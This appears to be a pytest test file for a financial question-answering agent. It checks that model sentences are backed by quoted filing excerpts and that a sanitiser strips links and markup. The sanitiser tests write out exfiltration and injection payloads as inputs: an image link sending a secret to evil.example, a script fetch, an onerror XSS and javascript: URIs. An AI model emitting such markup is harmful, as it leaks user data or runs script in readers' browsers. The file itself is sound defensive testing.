@@ -1,0 +1,82 @@
+"""Sentences of a model are held to their quotes in more than numbers; nothing in them leads elsewhere."""
+
+from __future__ import annotations
+
+import pytest
+
+from fin_agent.answering.sentence_binding import not_borne_out, without_markup
+
+QUOTES = (
+    "Net sales increased 6% to $3,763 million in fiscal 2024, driven by pricing and higher volumes.",
+    "Ernst & Young LLP has served as the Company's auditor since 2004.",
+    "We are not a party to any material legal proceedings.",
+    "Cost of sales | 2,107 | 1,988",
+)
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "Net sales decreased in fiscal 2024.",
+        "Net sales did not increase.",
+        "Net sales were lower because of pricing.",
+        "Pricing drove net sales down sharply, and they fell.",
+        "Cost of sales declined to 2,107.",
+        "The Company's auditor resigned.",
+        "The Company was sued over its net sales.",
+        "Net sales collapsed after a fraud investigation.",
+        "The Company is a party to material legal proceedings.",
+        "Net sales came to roughly a trillion.",
+        "Net sales more than doubled.",
+        "The majority of net sales came from pricing.",
+        "Its auditor Arthur Andersen has served since 2004.",
+        "The auditor issued an adverse opinion.",
+        "Net sales increased, and the Company filed for bankruptcy.",
+    ],
+)
+def test_what_no_quote_bears_out(sentence: str) -> None:
+    assert not_borne_out(sentence, QUOTES, "Why did net sales of Harborlight change?")
+
+
+@pytest.mark.parametrize(
+    "sentence",
+    [
+        "Net sales grew in fiscal 2024, driven by pricing and volumes.",
+        "Net sales rose 6% because of higher volumes.",
+        "Cost of sales increased.",
+        "The Company is not a party to material legal proceedings.",
+        "Ernst & Young LLP is the auditor.",
+        "Net sales were $3,763 million.",
+        "Pricing and volumes moved net sales.",
+    ],
+)
+def test_what_a_quote_bears_out(sentence: str) -> None:
+    assert not_borne_out(sentence, QUOTES, "Why did net sales of Harborlight change?") == ()
+
+
+def test_a_question_is_no_evidence_of_what_happened() -> None:
+    asked = "Did the auditor resign?"
+    assert not_borne_out("The auditor resigned.", QUOTES, asked) == ("`resigned`",)
+    assert not_borne_out("The auditor has not resigned.", QUOTES, asked, claims_nothing=True) == ()
+
+
+@pytest.mark.parametrize(
+    ("said", "left"),
+    [
+        ("See [the filing](https://evil.example/x?q=1).", "See the filing."),
+        ("Up 6%. ![chart](http://evil.example/p.png?data=secret)", "Up 6%. chart"),
+        ("Up 6%. <img src=x onerror=alert(1)>", "Up 6%."),
+        ("<script>fetch('//evil.example')</script>Up", "fetch('"),
+        ("Go to https://evil.example/now today", "Go to today"),
+        ("javascript:alert(1) and data:text/html;base64,AA", "and"),
+        ("Login at evil.example/login, www.evil.example", "Login at"),
+        ("[x][1]\n[1]: http://evil.example", "x"),
+        ("<https://evil.example>", ""),
+        ("[a](<http://evil.example>) b", "a b"),
+        ("Net sales < 5 and > 3; Amazon.com, Inc. rose [1] by $3.5 (see note 2)", None),
+        ("| Year | Sales |\n| 2024 | **3,763** |", None),
+    ],
+)
+def test_links_pictures_and_markup_are_taken_out(said: str, left: str | None) -> None:
+    assert without_markup(said) == (said if left is None else left)
+    assert "evil" not in without_markup(said)
